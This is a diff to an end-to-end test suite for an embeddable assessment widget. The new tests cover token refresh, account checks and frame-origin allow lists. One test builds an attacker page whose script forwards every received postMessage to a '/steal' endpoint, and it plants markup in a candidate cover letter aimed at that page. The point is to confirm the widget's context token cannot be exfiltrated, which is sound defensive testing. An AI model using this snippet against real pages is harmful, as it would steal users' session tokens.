@@ -2,12 +2,17 @@
 // mounting the real widget from the real server.
 import type { Browser, Frame, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { startServer, type RunningServer } from '../helpers/server.ts';
+import { assay } from '../helpers/cli.ts';
+import { startServer, type DemoFile, type RunningServer } from '../helpers/server.ts';
 import { freshCandidate, launchChromium, mintContext, startHost, strictCsp, type ContextClaims, type HostServer } from './helpers.ts';
 
 let server: RunningServer;
 let host: HostServer;
 let browser: Browser;
+/** A second site on yet another origin: an attacker's, or an integrator's page not allowed yet. */
+let evil: HostServer;
+/** A second Assay account that allows only https://ats.other.example to frame it. */
+let other: DemoFile;
 const people = new Map<string, ReturnType<typeof freshCandidate>>();
 /** Every context token the host's backend handed out: who asked, when, and when it expires. */
 const minted: { who: string; at: number; exp: number }[] = [];
@@ -50,7 +55,13 @@ function hostPage(path: string, body: string, scripts: string[]) {
 }
 
 beforeAll(async () => {
-  [server, browser, host] = await Promise.all([startServer(), launchChromium(), startHost()]);
+  [server, browser, host, evil] = await Promise.all([startServer(), launchChromium(), startHost(), startHost()]);
+  const created = await assay(
+    ['accounts:create', '--name', 'Other ATS', '--id', 'other', '--issuer', 'https://other.example', '--frame-origin', 'https://ats.other.example', '--no-packages', '--json'],
+    { DATA_DIR: server.dataDir },
+  );
+  expect(created.code, created.stderr).toBe(0);
+  other = { ...created.json, account_id: 'other' } as DemoFile;
   host.script('/probe.js', PROBE);
   host.script('/snippet.js', snippet(server.url));
   host.page('/blank.html', '<!doctype html><title>blank</title>', strictCsp(server.url));
@@ -61,7 +72,7 @@ beforeAll(async () => {
     if (!people.has(who)) people.set(who, freshCandidate(who));
     const ttl = Number(q.get('ttl') ?? 600);
     const claims: ContextClaims = { ...people.get(who)!, ttl, role: (q.get('role') as ContextClaims['role']) ?? 'recruiter' };
-    const context = await mintContext(server.demo, claims);
+    const context = await mintContext(q.get('account') === 'other' ? other : server.demo, claims);
     minted.push({ who, at: Date.now(), exp: Date.now() + ttl * 1000 });
     res.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'no-store' }).end(JSON.stringify({ context }));
   });
@@ -69,7 +80,7 @@ beforeAll(async () => {
 
 afterAll(async () => {
   await browser?.close();
-  await Promise.all([server?.stop(), host?.stop()]);
+  await Promise.all([server?.stop(), host?.stop(), evil?.stop()]);
 });
 
 async function open(path: string): Promise<Page> {
@@ -159,6 +170,7 @@ window.handles = { a: a, b: b };`,
     const orderId = (created[0] as unknown as { payload: { order_id: string } }).payload.order_id;
 
     await a.getByRole('button', { name: `Cancel ${chosen}` }).click();
+    await a.getByRole('button', { name: 'Yes, cancel' }).click();
     await waitForEvent(page, 'order.updated');
     const updated = await page.evaluate(() => (window as unknown as { events: { type: string }[] }).events.filter((e) => e.type === 'order.updated'));
     expect(updated).toEqual([{ who: 'a', type: 'order.updated', payload: { v: 1, order_id: orderId, status: 'cancelled', previous_status: 'pending' } }]);
@@ -304,20 +316,39 @@ window.handle = Assay('mount', '#w', {
   view: 'status',
   account: 'demo',
   context: function () {
-    contextCalls.push(Date.now());
-    return fetch('/ctx?who=refresh&ttl=8').then(function (r) { return r.json(); }).then(function (j) { return j.context; });
+    return fetch('/ctx?who=refresh&ttl=600').then(function (r) { return r.json(); }).then(function (j) {
+      var exp = JSON.parse(atob(j.context.split('.')[1].replace(/-/g, '+').replace(/_/g, '/'))).exp * 1000;
+      contextCalls.push({ at: Date.now(), exp: exp });
+      return j.context;
+    });
   },
 });
 handle.on('*', record('w'));`,
     );
     hostPage('/refresh.html', '<div id="w"></div>', [`${server.url}/embed.js`, '/refresh.js']);
-    const page = await open('/refresh.html');
+    // The page's clock is ours: time is jumped forward instead of waited for.
+    const page = await browser.newPage();
+    await page.clock.install();
+    await page.goto(host.url + '/refresh.html');
     await waitForEvent(page, 'ready');
-    await page.waitForFunction(() => (window as unknown as { contextCalls: number[] }).contextCalls.length >= 2, null, { timeout: 20_000, polling: 200 });
-    const mine = minted.filter((m) => m.who === 'refresh');
-    expect(mine.length).toBeGreaterThanOrEqual(2);
-    // The second token was fetched while the first was still valid.
-    expect(mine[1]!.at).toBeLessThan(mine[0]!.exp);
+    type Call = { at: number; exp: number };
+    const calls = () => page.evaluate(() => (window as unknown as { contextCalls: Call[] }).contextCalls);
+    const [first] = await calls();
+    expect(await calls()).toHaveLength(1);
+    // Up to two minutes before expiry nothing is fetched…
+    await page.clock.fastForward(first!.exp - 120_000 - (await page.evaluate(() => Date.now())));
+    expect(await calls()).toHaveLength(1);
+    // …and past the refresh point (a minute before exp) the function is called once more.
+    await page.clock.fastForward(61_000);
+    await page.waitForFunction(() => (window as unknown as { contextCalls: Call[] }).contextCalls.length >= 2, null, { timeout: 20_000, polling: 100 });
+    const second = (await calls())[1]!;
+    expect(second.at).toBeLessThan(first!.exp);
+    expect(second.at).toBeGreaterThanOrEqual(first!.exp - 60_000);
+    expect(second.exp).toBeGreaterThan(first!.exp);
+    // The frame still answers: a view change travels and renders, and nothing went wrong.
+    await page.evaluate(() => (window as unknown as { handle: { update(o: object): void } }).handle.update({ view: 'result' }));
+    const frame = await frameOf(page, '#w');
+    await frame.getByRole('heading', { name: 'Results' }).waitFor({ timeout: 20_000 });
     expect(await page.evaluate(() => (window as unknown as { events: { type: string }[] }).events.filter((e) => e.type === 'error'))).toEqual([]);
     await page.close();
   });
@@ -379,5 +410,103 @@ window.addLater = function () {
     expect(await page.evaluate(() => document.querySelectorAll('iframe').length)).toBe(2);
     await expectCleanHost(page);
     await page.close();
+  });
+
+  describe('the account comes from the verified context, and the page must be allowed to show it', () => {
+    test('{ view, context } without account mounts, sizes itself and emits ready', async () => {
+      host.script('/no-account.js', `window.handle = Assay('mount', '#w', { view: 'status', context: { url: '/ctx?who=no-account' }, on: { '*': record('w') } });`);
+      hostPage('/no-account.html', '<div id="w"></div>', [`${server.url}/embed.js`, '/no-account.js']);
+      const page = await open('/no-account.html');
+      await waitForEvent(page, 'ready');
+      expect(await page.evaluate(() => (window as unknown as { events: unknown[] }).events)).toEqual([{ who: 'w', type: 'ready', payload: { v: 1, view: 'status', role: 'recruiter' } }]);
+      const frame = await frameOf(page, '#w');
+      await frame.getByText('No assessments have been sent to this candidate yet.').waitFor({ timeout: 20_000 });
+      await page.waitForFunction(() => document.querySelector('#w iframe')!.getBoundingClientRect().height > 20, null, { timeout: 20_000, polling: 100 });
+      const src = new URL(await page.evaluate(() => document.querySelector('iframe')!.src));
+      expect(src.searchParams.has('account')).toBe(false);
+      expect(src.searchParams.get('iss')).toBe(server.demo.issuer);
+      expect(src.href).not.toContain('context');
+      await expectCleanHost(page);
+      await page.close();
+    });
+
+    test('a page the account does not allow gets an error event, a console line with the fix, and a readable frame; the documented command lets it in', async () => {
+      host.script('/not-allowed.js', `window.handle = Assay('mount', '#w', { view: 'status', context: { url: '/ctx?who=not-allowed&account=other' }, on: { '*': record('w') } });`);
+      hostPage('/not-allowed.html', '<div id="w" style="width: 480px"></div>', [`${server.url}/embed.js`, '/not-allowed.js']);
+      const page = await browser.newPage();
+      const consoleLines: string[] = [];
+      page.on('console', (m) => consoleLines.push(m.text()));
+      await page.goto(host.url + '/not-allowed.html');
+      await waitForEvent(page, 'error');
+      const [error] = await page.evaluate(() => (window as unknown as { events: { type: string; payload: { code: string; message: string } }[] }).events.filter((e) => e.type === 'error'));
+      const command = `npx assay accounts:update --account other --frame-origin ${host.origin}`;
+      expect(error!.payload.code).toBe('frame_origin_not_allowed');
+      expect(error!.payload.message).toContain(host.origin);
+      expect(error!.payload.message).toContain(command);
+      expect(consoleLines.some((l) => l.includes(host.origin) && l.includes(command))).toBe(true);
+      // Not a blank box: the frame says why, at a size the page can read.
+      const frame = await frameOf(page, '#w');
+      await frame.getByRole('alert').getByText(command).waitFor({ timeout: 20_000 });
+      await page.waitForFunction(() => document.querySelector('#w iframe')!.getBoundingClientRect().height > 40, null, { timeout: 20_000, polling: 100 });
+      expect(await page.evaluate(() => (window as unknown as { events: { type: string }[] }).events.filter((e) => e.type === 'ready'))).toEqual([]);
+      await page.close();
+
+      // Going live: the command from the message, as the guide gives it (keeping the existing origin).
+      const allowed = await assay(['accounts:update', '--account', 'other', '--frame-origin', 'https://ats.other.example', '--frame-origin', host.origin], { DATA_DIR: server.dataDir });
+      expect(allowed.code, allowed.stderr).toBe(0);
+      const again = await open('/not-allowed.html');
+      await waitForEvent(again, 'ready');
+      await (await frameOf(again, '#w')).getByText('No assessments have been sent to this candidate yet.').waitFor({ timeout: 20_000 });
+      await again.close();
+      const reset = await assay(['accounts:update', '--account', 'other', '--frame-origin', 'https://ats.other.example'], { DATA_DIR: server.dataDir });
+      expect(reset.code, reset.stderr).toBe(0);
+    });
+
+    test("framing with one account's id and another account's context fails", async () => {
+      host.script('/mismatch.js', `Assay('mount', '#w', { view: 'status', account: 'demo', context: { url: '/ctx?who=mismatch&account=other' }, on: { '*': record('w') } });`);
+      hostPage('/mismatch.html', '<div id="w"></div>', [`${server.url}/embed.js`, '/mismatch.js']);
+      const page = await open('/mismatch.html');
+      await waitForEvent(page, 'error');
+      const events = await page.evaluate(() => (window as unknown as { events: { type: string; payload: { code: string } }[] }).events);
+      expect(events.map((e) => [e.type, e.payload.code])).toEqual([['error', 'context_account_mismatch']]);
+      await page.close();
+    });
+
+    test('an element in sanitized content cannot send the context to another origin (data-assay-origin is ignored)', async () => {
+      // The attacker's page plays a widget: it says hello to whoever framed it and keeps what comes back.
+      const stolen: string[] = [];
+      evil.route('/steal', (_req, res, body) => {
+        stolen.push(body);
+        res.writeHead(204).end();
+      });
+      evil.page(
+        '/widget/',
+        `<!doctype html><title>w</title><script>
+var q = new URLSearchParams(location.search);
+addEventListener('message', function (e) { fetch('/steal', { method: 'POST', body: JSON.stringify(e.data) }); });
+parent.postMessage({ assay: 1, id: q.get('instance'), type: 'hello', payload: { protocol: 1, view: 'status' } }, '*');
+</script>`,
+      );
+      // A candidate's cover letter, shown by an ATS page without a CSP, carries the attacker's markup.
+      host.page(
+        '/profile.html',
+        `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Candidate</title><script src="/probe.js"></script></head><body>
+<h1>Candidate profile</h1>
+<section id="cover-letter"><p>Dear hiring team,</p>
+<div id="planted" data-assay-view="status" data-assay-account="demo" data-assay-context="/ctx?who=theft" data-assay-origin="${evil.origin}"></div></section>
+<script src="${server.url}/embed.js"></script>
+<script src="/theft.js"></script></body></html>`,
+      );
+      host.script('/theft.js', `document.addEventListener('assay:ready', function (e) { events.push({ who: e.target.id, type: 'ready', payload: e.detail }); });`);
+      const page = await open('/profile.html');
+      // The element mounts the real widget from the loader's own origin…
+      await waitForEvent(page, 'ready', 'planted');
+      const src = await page.evaluate(() => document.querySelector('#planted iframe')!.getAttribute('src')!);
+      expect(new URL(src).origin).toBe(server.url);
+      // …and the attacker's origin was never asked for anything, let alone given a context.
+      expect(evil.requests).not.toContain('/widget/');
+      expect(stolen).toEqual([]);
+      await page.close();
+    });
   });
 });
